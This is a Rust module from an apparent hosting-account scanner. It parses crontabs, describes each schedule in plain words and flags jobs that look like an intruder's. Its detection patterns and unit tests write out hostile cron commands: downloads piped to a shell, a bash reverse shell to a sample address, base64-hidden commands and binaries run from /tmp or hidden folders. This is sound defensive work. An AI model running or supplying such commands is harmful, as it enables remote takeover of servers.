//! The account's crontab: every scheduled task in plain words, and the ones that do what
//! intruders' tasks do — download a program and run it, open a reverse shell, run a hidden
//! (base64) command, or run something kept in a temporary or hidden folder.

use crate::engine::report::{CronJob, Verdict};

/// Lines read per crontab (a hostile one can hold millions) and characters kept per line.
const MAX_LINES: usize = 2_000;
const MAX_LINE: usize = 4_096;

/// Every task in `text` (cPanel's `cron/USER` crontab, or DirectAdmin's `crontab.conf`,
/// whose lines carry an `N=` prefix).
pub fn read(file: &str, text: &[u8]) -> Vec<CronJob> {
    let text = String::from_utf8_lossy(text);
    let mut out = Vec::new();
    for (i, raw) in text.lines().enumerate().take(MAX_LINES) {
        let line: String = raw.chars().take(MAX_LINE).collect();
        let mut line = line.trim();
        // DirectAdmin: `12=*/5 * * * * command`.
        if let Some((id, rest)) = line.split_once('=') {
            if !id.is_empty() && id.bytes().all(|b| b.is_ascii_digit()) {
                line = rest.trim();
            }
        }
        if line.is_empty() || line.starts_with('#') || is_assignment(line) {
            continue;
        }
        let Some((schedule, command)) = split_schedule(line) else {
            continue;
        };
        let flags = judge(command);
        out.push(CronJob {
            file: file.to_owned(),
            line: u32::try_from(i + 1).unwrap_or(u32::MAX),
            when: when(&schedule),
            schedule,
            command: command.chars().take(300).collect(),
            verdict: if flags.is_empty() {
                Verdict::Clean
            } else {
                Verdict::Malicious
            },
            flags,
        });
    }
    out
}

/// `MAILTO=me@example.com`, `SHELL="/bin/bash"`: settings, not tasks.
fn is_assignment(line: &str) -> bool {
    let name = line.split('=').next().unwrap_or("");
    line.contains('=')
        && !name.is_empty()
        && name
            .trim()
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// The schedule (five fields, or `@reboot`-style) and the command after it.
fn split_schedule(line: &str) -> Option<(String, &str)> {
    if line.starts_with('@') {
        let (s, c) = line.split_once(char::is_whitespace)?;
        return Some((s.to_owned(), c.trim()));
    }
    let mut rest = line;
    let mut fields = Vec::new();
    for _ in 0..5 {
        rest = rest.trim_start();
        let end = rest.find(char::is_whitespace)?;
        fields.push(rest.get(..end)?);
        rest = rest.get(end..)?;
    }
    let ok = fields.iter().all(|f| {
        f.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"*/,-".contains(&b))
    });
    ok.then(|| (fields.join(" "), rest.trim()))
}

/// When a schedule runs, in plain words.
fn when(schedule: &str) -> String {
    let f: Vec<&str> = schedule.split(' ').collect();
    let num = |s: &str| s.parse::<u32>().ok();
    match f.as_slice() {
        ["@reboot"] => "every time the server starts".into(),
        ["@hourly"] => "every hour".into(),
        ["@daily" | "@midnight"] => "every day at midnight".into(),
        ["@weekly"] => "every week".into(),
        ["@monthly"] => "every month".into(),
        ["@yearly" | "@annually"] => "every year".into(),
        ["*", "*", "*", "*", "*"] => "every minute".into(),
        [m, "*", "*", "*", "*"] if m.starts_with("*/") => {
            crate::en!("every {0} minutes", m.trim_start_matches("*/"))
        }
        [m, "*", "*", "*", "*"] if num(m).is_some() => {
            crate::en!("every hour at minute {0}", m)
        }
        [m, h, "*", "*", "*"] if num(m).is_some() && h.starts_with("*/") => {
            crate::en!("every {0} hours", h.trim_start_matches("*/"))
        }
        [m, h, "*", "*", dow] => match (num(m), num(h)) {
            (Some(m), Some(h)) if *dow == "*" => crate::en!("every day at {0}", clock(h, m)),
            (Some(m), Some(h)) if num(dow).is_some() => {
                crate::en!("every week on {0} at {1}", weekday(dow), clock(h, m))
            }
            _ => crate::en!("on the schedule \"{0}\"", schedule),
        },
        [m, h, dom, "*", "*"] if num(m).is_some() && num(h).is_some() && num(dom).is_some() => {
            crate::en!(
                "every month on day {0} at {1}",
                dom,
                clock(num(h).unwrap_or(0), num(m).unwrap_or(0))
            )
        }
        _ => crate::en!("on the schedule \"{0}\"", schedule),
    }
}

fn clock(h: u32, m: u32) -> String {
    format!("{h:02}:{m:02}")
}

fn weekday(d: &str) -> String {
    let names = [
        "Sunday",
        "Monday",
        "Tuesday",
        "Wednesday",
        "Thursday",
        "Friday",
        "Saturday",
    ];
    let i = d.parse::<usize>().unwrap_or(0) % 7;
    names.get(i).copied().unwrap_or("Sunday").to_owned()
}

const DOWNLOADERS: [&str; 6] = [
    "wget ",
    "curl ",
    "fetch ",
    "lwp-download",
    "lynx -source",
    "GET http",
];
const INTERPRETERS: [&str; 9] = [
    "sh", "bash", "dash", "zsh", "ksh", "perl", "python", "php", "ruby",
];

/// Why a command looks like an intruder's (empty when it does not).
fn judge(command: &str) -> Vec<String> {
    let c = command.to_ascii_lowercase();
    let mut flags = Vec::new();
    let downloads = DOWNLOADERS.iter().any(|d| c.contains(d));
    let pipes_to_shell = c.split('|').skip(1).any(|seg| {
        let first = seg.split_whitespace().next().unwrap_or("");
        let base = first.rsplit('/').next().unwrap_or(first);
        INTERPRETERS.iter().any(|i| base.starts_with(i))
    });
    let substitutes =
        c.contains("$(curl") || c.contains("$(wget") || c.contains("`curl") || c.contains("`wget");
    if downloads
        && (pipes_to_shell || substitutes || c.contains("chmod +x") || c.contains("chmod 7"))
    {
        flags.push("it downloads a program from the internet and runs it".to_owned());
    }
    if c.contains("/dev/tcp/")
        || c.contains("/dev/udp/")
        || c.contains("nc -e")
        || c.contains("ncat -e")
        || c.contains("bash -i")
        || (c.contains("socat") && c.contains("exec"))
    {
        flags.push("it opens a connection that gives someone else a command line on your account (a reverse shell)".to_owned());
    }
    if c.contains("base64 -d")
        || c.contains("base64 --decode")
        || c.contains("openssl enc -d")
        || c.contains("eval \"$(echo")
    {
        flags.push("it runs a command hidden in base64 so that nobody can read it".to_owned());
    }
    for program in programs(&c) {
        let in_tmp = ["/tmp/", "/var/tmp/", "/dev/shm/"]
            .iter()
            .any(|t| program.starts_with(t));
        if in_tmp {
            flags.push(crate::en!(
                "it runs {0}, a program in a temporary folder, where nothing you installed lives",
                program
            ));
            break;
        }
        if program
            .split('/')
            .any(|s| s.starts_with('.') && s != "." && s != "..")
        {
            flags.push(crate::en!(
                "it runs {0}, a program in a hidden folder",
                program
            ));
            break;
        }
    }
    flags
}

/// The programs a command runs: each part's first word, and an interpreter's script.
fn programs(c: &str) -> Vec<String> {
    let mut out = Vec::new();
    for part in c.split([';', '|', '&']) {
        let mut words = part
            .split_whitespace()
            .filter(|w| !w.starts_with('-') && !w.contains('='))
            .skip_while(|w| {
                matches!(
                    *w,
                    "nohup" | "nice" | "cd" | "exec" | "/usr/bin/env" | "env"
                )
            });
        let Some(first) = words.next() else {
            continue;
        };
        let base = first.rsplit('/').next().unwrap_or(first);
        if INTERPRETERS.iter().any(|i| base.starts_with(i)) {
            if let Some(script) = words.next() {
                out.push(script.trim_matches(['"', '\'']).to_owned());
            }
        } else {
            out.push(first.trim_matches(['"', '\'']).to_owned());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn schedules_read_in_plain_words() {
        assert_eq!(when("*/5 * * * *"), "every 5 minutes");
        assert_eq!(when("0 3 * * *"), "every day at 03:00");
        assert_eq!(when("30 2 * * 1"), "every week on Monday at 02:30");
        assert_eq!(when("@reboot"), "every time the server starts");
        assert_eq!(when("15 * * * *"), "every hour at minute 15");
        assert_eq!(when("0 4 1 * *"), "every month on day 1 at 04:00");
        assert_eq!(when("1-5 * 2 3 *"), "on the schedule \"1-5 * 2 3 *\"");
    }

    #[test]
    fn the_usual_tasks_are_clean_and_the_intruders_are_not() {
        let clean = [
            "wget -q -O - https://example.com/wp-cron.php?doing_wp_cron >/dev/null 2>&1",
            "/usr/local/bin/php /home/jane/public_html/wp-cron.php > /dev/null 2>&1",
            "curl -s https://example.com/cron.php > /tmp/cron.log",
            "cd /home/jane/public_html && php artisan schedule:run >> /dev/null 2>&1",
        ];
        for c in clean {
            assert!(judge(c).is_empty(), "{c}: {:?}", judge(c));
        }
        let bad = [
            "curl -fsSL http://203.0.113.9/x.sh | bash",
            "wget -q http://203.0.113.9/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k",
            "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
            "echo Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkCg== | base64 -d | sh",
            "nohup /home/jane/.cache/.sys/kswapd >/dev/null 2>&1 &",
            "/usr/bin/php /dev/shm/.x.php",
        ];
        for c in bad {
            assert!(!judge(c).is_empty(), "{c}");
        }
    }

    #[test]
    fn a_crontab_is_read_line_by_line_within_bounds() {
        let tab = b"MAILTO=\"jane@example.com\"\nSHELL=\"/bin/bash\"\n# comment\n*/15 * * * * php /home/jane/public_html/cron.php\n@reboot curl -s http://203.0.113.9/a | sh\n";
        let jobs = read("cron/jane", tab);
        assert_eq!(jobs.len(), 2);
        assert_eq!(jobs[0].line, 4);
        assert_eq!(jobs[0].verdict, Verdict::Clean);
        assert_eq!(jobs[1].line, 5);
        assert_eq!(jobs[1].verdict, Verdict::Malicious);
        let huge = "* * * * * true\n".repeat(100_000);
        assert_eq!(read("cron/x", huge.as_bytes()).len(), MAX_LINES);
        let long = format!("* * * * * {}", "a".repeat(1 << 20));
        assert!(read("cron/x", long.as_bytes())[0].command.len() <= 300);
    }
}
